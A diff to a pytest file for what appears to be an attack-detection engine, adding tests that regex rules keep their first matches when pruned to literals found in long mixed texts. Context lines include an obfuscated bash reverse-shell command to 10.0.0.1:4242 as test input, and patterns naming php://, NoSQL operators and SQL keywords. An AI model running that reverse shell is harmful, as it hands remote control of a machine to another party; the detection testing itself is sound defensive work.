@@ -4,13 +4,16 @@ from __future__ import annotations
 
 import random
 import re
+from pathlib import Path
 
 import pytest
 
 from node.detectors import MODULES
 from node.engine import Engine
-from node.rules import Translation, searchable
+from node.rules import PRUNE_MIN, Translation, required_literal, searchable
 from node.types import AttackType, Request
+
+DETECTION = Path(__file__).parent / "data" / "detection"
 
 # Shapes the rules use: boundaries before words, before groups of words, groups followed
 # by more pattern, nested groups, escaped signs and literals among the alternatives.
@@ -100,6 +103,56 @@ def test_a_command_folded_in_a_long_text_is_found() -> None:
     value = page + "\nb'a'sh -i >& /d'e'v/t'c'p/10.0.0.1/4242 0>&1\n" + page
     hits = Engine().scan(Request("POST", "/", (("Content-Type", "text/plain"),), value.encode()))
     assert AttackType.RCE in {hit.type for hit in hits}
+
+
+@pytest.mark.parametrize(
+    ("alternative", "literal"),
+    [
+        (r"p(?<!\w.)hp://", "php://"),  # across a look-behind
+        (r"(?:^\s*|\w)\[\$(?:ne|gt)\]", "[$"),  # after a group, among escapes
+        (r"\bexec\b|", "exec"),
+        (r"ab*c", "a"),  # a quantified character is no part of one
+        (r"x{2}", ""),  # nor are a quantifier's bounds
+        (r"\d{1,3}\.\d", "."),
+        (r"a\x41bc", "bc"),  # \x41 is one character, not "x41"
+        (r"[\]ab]cd", "cd"),
+        (r"(?:union|select)", ""),
+    ],
+)
+def test_required_literal(alternative: str, literal: str) -> None:
+    assert required_literal(alternative.removesuffix("|")) == literal
+
+
+def _payloads() -> list[str]:
+    lines = [
+        line.split("\t", 1)[1].replace("\\r", "\r").replace("\\n", "\n")
+        for path in sorted(DETECTION.glob("*.tsv"))
+        for line in path.read_text(encoding="utf-8").splitlines()
+        if line.startswith("+\t")
+    ]
+    return [value for line in lines for value in (line, line.lower())]
+
+
+def test_long_texts_find_what_the_whole_pattern_finds() -> None:
+    """A long text is searched with the alternatives whose literal it holds: every rule
+    must find the same first match there as its whole pattern, in texts full of the
+    payloads the rules are written for."""
+    payloads = _payloads()
+    rng = random.Random(7)
+    rules = [r for m in MODULES for r in m.RULES if r.pattern is not None and r.parts]
+    assert len(rules) >= 20
+    filler = "plain words, numbers 12 and (parentheses); "
+    for _ in range(60):
+        pieces: list[str] = []
+        while sum(map(len, pieces)) < PRUNE_MIN:
+            pieces.append(rng.choice(payloads) if rng.random() < 0.2 else filler)
+        text = rng.choice(["\n", " ", ""]).join(pieces)
+        for rule in rules:
+            assert rule.pattern is not None
+            pruned = rule.pattern_for(text)
+            expected = rule.pattern.search(text)
+            found = pruned.search(text) if pruned is not None else None
+            assert (found and found.span()) == (expected and expected.span()), rule.id
 
 
 def test_translation_touches_only_texts_holding_its_characters() -> None:
